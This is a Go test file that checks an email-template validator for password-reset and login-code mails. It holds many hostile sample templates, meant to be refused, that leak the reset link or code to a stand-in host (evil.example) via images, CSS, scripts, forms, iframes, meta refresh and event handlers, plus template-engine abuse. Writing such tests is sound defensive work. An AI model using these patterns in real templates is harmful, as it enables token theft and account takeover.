package letters_test

import (
	"errors"
	"strings"
	"testing"

	"gatehouse.internal/application/mailing/letters"
	"gatehouse.internal/domain/fault"
	"gatehouse.internal/domain/mail"
)

// refused returns which part of a template is complained about, "" for none.
func refused(t *testing.T, name mail.Template, source mail.Source) string {
	t.Helper()
	err := letters.Check(name, source)
	if err == nil {
		return ""
	}
	refusal, ok := errors.AsType[*fault.Error](err)
	if !ok || refusal.Code != fault.Validation || len(refusal.Fields) == 0 {
		t.Fatalf("%v is no complaint about a part", err)
	}
	return refusal.Fields[0].Path
}

func TestCheckTakesAPlainTemplate(t *testing.T) {
	t.Parallel()
	for _, html := range []string{
		`<p>Hi {{.name}}, <a href="{{.link}}">click</a></p>`,
		`<a href={{.link}}>click</a>`,
		`<p>Open {{.link}} now</p>`,
		`{{if and .name (not .ip)}}Hi {{.name}}{{else if or .ip .when}}{{.ip}}{{end}} (<a href='{{.link}}'>{{.link}}</a>)`,
		`<style>p { color: red }</style><!-- {{.link}} --><p>{{/* a note */}}<a href="{{.link}}"><img src="https://cdn.example.com/logo.png"></a></p>`,
	} {
		source := mail.Source{Subject: "Reset", HTML: html, Text: "Go to {{.link}} in {{.valid_for}}"}
		if err := letters.Check(mail.PasswordReset, source); err != nil {
			t.Errorf("%s: %v", html, err)
		}
	}
}

func TestCheckRefusesSubjectsAndTexts(t *testing.T) {
	t.Parallel()
	good := mail.Source{Subject: "Reset", HTML: `<a href="{{.link}}">click</a>`, Text: "Go to {{.link}}"}
	tests := map[string]struct {
		subject, text, path string
	}{
		"empty subject":          {"  ", good.Text, "/subject"},
		"subject that vanishes":  {"{{if .name}}Hi{{end}}", good.Text, "/subject"},
		"subject of the link":    {"{{.link}}", good.Text, "/subject"},
		"long subject":           {strings.Repeat("x", 501), good.Text, "/subject"},
		"many actions":           {good.Subject, "{{.link}}" + strings.Repeat(" {{.name}}", 200), "/text"},
		"unclosed":               {"{{.name", good.Text, "/subject"},
		"unknown variable":       {"Hi {{.password}}", good.Text, "/subject"},
		"a code in a link mail":  {"{{.code}}", good.Text, "/subject"},
		"long text":              {good.Subject, "{{.link}}" + strings.Repeat("x", letters.MaxSource), "/text"},
		"loses the link":         {good.Subject, "Go there", "/text"},
		"loses it without name":  {good.Subject, "{{if .name}}{{.link}}{{end}}", "/text"},
		"loses it with ip alone": {good.Subject, "{{if and .ip (not .name) (not .when) (not .device)}}{{else}}{{.link}}{{end}}", "/text"},
		"leads elsewhere":        {good.Subject, "https://evil.example/?u={{.link}}", "/text"},
		"behind a quote":         {good.Subject, "https://evil.example/?u='{{.link}}'", "/text"},
		"behind a bracket":       {good.Subject, "https://evil.example/({{.link}})", "/text"},
		"leads elsewhere too":    {good.Subject, "{{.link}} https://evil.example/{{.link}}", "/text"},
		"range":                  {good.Subject, "{{range .link}}x{{end}}{{.link}}", "/text"},
		"range over a number":    {good.Subject, "{{range 1000000000}}x{{end}}{{.link}}", "/text"},
		"recursion":              {good.Subject, `{{define "x"}}{{template "x"}}{{end}}{{.link}}`, "/text"},
		"block":                  {good.Subject, `{{block "x" .}}{{.link}}{{end}}`, "/text"},
		"printf":                 {good.Subject, `{{printf "%1000000000d" 1}}{{.link}}`, "/text"},
		"a pipe":                 {good.Subject, `{{.link | urlquery}}`, "/text"},
		"a variable of its own":  {good.Subject, `{{$x := .link}}{{$x}}`, "/text"},
		"with":                   {good.Subject, `{{with .link}}{{.}}{{end}}`, "/text"},
		"everything at once":     {good.Subject, `{{.}}{{.link}}`, "/text"},
		"a field of a field":     {good.Subject, `{{.link.name}}{{.link}}`, "/text"},
		"call":                   {good.Subject, `{{call .link}}`, "/text"},
		"only a definition":      {good.Subject, `{{define "x"}}{{.link}}{{end}}`, "/text"},
	}
	for name, test := range tests {
		if got := refused(t, mail.PasswordReset, mail.Source{Subject: test.subject, HTML: good.HTML, Text: test.text}); got != test.path {
			t.Errorf("%s: complained about %q, want %q", name, got, test.path)
		}
	}
}

func TestCheckRefusesHTMLThatLeadsTheLinkElsewhere(t *testing.T) {
	t.Parallel()
	const anchor = `<a href="{{.link}}">click</a>`
	for _, html := range []string{
		`<p>nothing</p>`,
		`<!-- {{.link}} -->`,
		`{{if .name}}` + anchor + `{{end}}`,
		anchor + `<img src="https://evil.example/{{.link}}">`,
		anchor + `<img src="https://evil.example/?u={{.link}}">`,
		anchor + `<img src="{{.link}}">`,
		anchor + `<a href="https://evil.example/?u={{.link}}">x</a>`,
		anchor + `<a href="https://evil.example/{{if .name}}{{.link}}{{end}}">x</a>`,
		anchor + `<p title="{{.link}}">x</p>`,
		anchor + `<p style="background: url(https://evil.example/{{.link}})">x</p>`,
		anchor + `<style>p { background: url("https://evil.example/{{.link}}") }</style>`,
		anchor + `<p>https://evil.example/{{.link}}</p>`,
		anchor + `<p>https://evil.example/?{{/* */}}{{.link}}</p>`,
		anchor + `<p>https://evil.example/?u='{{.link}}'</p>`,
		anchor + `<script src="https://evil.example/x.js"></script>`,
		anchor + `<form action="https://evil.example"><input name="x"></form>`,
		anchor + `<iframe src="https://evil.example"></iframe>`,
		anchor + `<base href="https://evil.example">`,
		anchor + `<link rel="stylesheet" href="https://evil.example/x.css">`,
		anchor + `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		anchor + `<svg onload="x()"></svg>`,
		anchor + `<p onclick="x()">x</p>`,
		`<a href="{{.link}}" ping="https://evil.example">click</a>`,
		`<title>{{.link}}</title>`,
		`<a href="javascript:{{.link}}">x</a>`,
		anchor + `{{range .name}}{{end}}`,
	} {
		got := refused(t, mail.PasswordReset, mail.Source{Subject: "Reset", HTML: html, Text: "{{.link}}"})
		if got != "/html" {
			t.Errorf("%s: complained about %q, want /html", html, got)
		}
	}
}

func TestCheckGuardsCodesAlike(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		`<b>{{.code}}</b>`: "",
		`<b>Your code</b> {{.code}} <img src="https://evil.example/{{.code}}">`:     "/html",
		`{{.code}} <a href="https://evil.example/{{.code}}">x</a>`:                  "/html",
		`{{.code}} <a href="{{.code}}">x</a>`:                                       "/html",
		`{{.code}} https://evil.example/{{.code}}`:                                  "/html",
		`<p title="{{.code}}">no</p>`:                                               "/html",
		`{{if .ip}}{{.code}}{{end}}`:                                                "/html",
		`482913`:                                                                    "/html",
		`<a href="{{.host}}/help">help</a> <i style="color: #482913">{{.code}}</i>`: "/html",
	}
	for html, want := range tests {
		got := refused(t, mail.LoginCode, mail.Source{Subject: "{{.code}}", HTML: html, Text: "{{.code}}"})
		if got != want {
			t.Errorf("%s: complained about %q, want %q", html, got, want)
		}
	}
}

func TestCheckAsksNothingOfNotices(t *testing.T) {
	t.Parallel()
	source := mail.Source{Subject: "News", HTML: "<p>{{.headline}}</p>", Text: "{{.headline}}"}
	if err := letters.Check(mail.Notice, source); err != nil {
		t.Error(err)
	}
	source.Text = "{{.link}}"
	if got := refused(t, mail.Notice, source); got != "/text" {
		t.Errorf("a link in a notice: complained about %q, want /text", got)
	}
}

func TestRenderIsBounded(t *testing.T) {
	t.Parallel()
	source := mail.Source{
		Subject: "x", HTML: strings.Repeat("{{.name}}", 7000), Text: "x",
	}
	values := letters.Sample(mail.Notice)
	values["name"] = strings.Repeat("x", 100)
	if _, err := letters.Render(mail.Notice, source, values); err == nil || !strings.Contains(err.Error(), "too long") {
		t.Errorf("Render() = %v, want that it is too long", err)
	}
}
